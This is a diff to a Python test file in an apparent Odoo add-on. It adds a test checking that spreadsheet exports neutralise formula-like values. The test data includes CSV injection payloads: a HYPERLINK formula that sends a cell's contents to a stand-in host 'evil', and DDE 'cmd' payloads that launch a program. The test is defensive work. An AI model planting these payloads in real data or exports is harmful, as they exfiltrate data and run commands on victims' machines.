@@ -5,8 +5,9 @@ import logging
 from odoo.exceptions import AccessError, UserError, ValidationError
 from odoo.modules.neutralize import get_neutralization_queries
 
-from odoo.addons.social_care.models.account.social_care_account import CREDENTIALS
+from odoo.addons.social_care.connecting.credentials import NAMES as CREDENTIALS
 
+from .common import say
 from .test_replies import ReplyCase
 
 SECRETS = {name: f"secret-{name}" for name in CREDENTIALS}
@@ -61,6 +62,24 @@ class TestSecrets(ReplyCase):
                     self.conversation.with_user(self.admin).export_data(
                         [f"account_id/{name}"]
                     )
+
+    def test_no_formula_leaves_in_an_export(self):
+        """Spreadsheets run what begins like one; telephone numbers are none."""
+        self.admin.group_ids += self.env.ref("base.group_allow_export")
+        formula = '=HYPERLINK("http://evil/"&A1,"x")'
+        wild = [formula, "+1+cmd|' /C calc'!A0", "-2+3+cmd|x", "@SUM(1)", "{=1}"]
+        for number, words in enumerate(wild):
+            who = f"w{number}"
+            self.bring(say(words, id=who, author=who, author_name=words))
+        posts = self.posts().with_user(self.admin).filtered(lambda p: p.body in wild)
+        self.assertEqual(len(posts), len(wild))
+        paths = ["body", "profile_id/name", "conversation_id/post_ids/body"]
+        for row in posts.export_data(paths)["datas"]:
+            for value in row:
+                self.assertEqual(value[:1], "'", value)
+        post = posts[0]
+        post.sudo().body = "+43 1 (234) 56-78"
+        self.assertEqual(post.export_data(["body"])["datas"], [[post.body]])
 
     def test_a_copy_of_the_database_speaks_to_nobody(self):
         reply = self.reply()
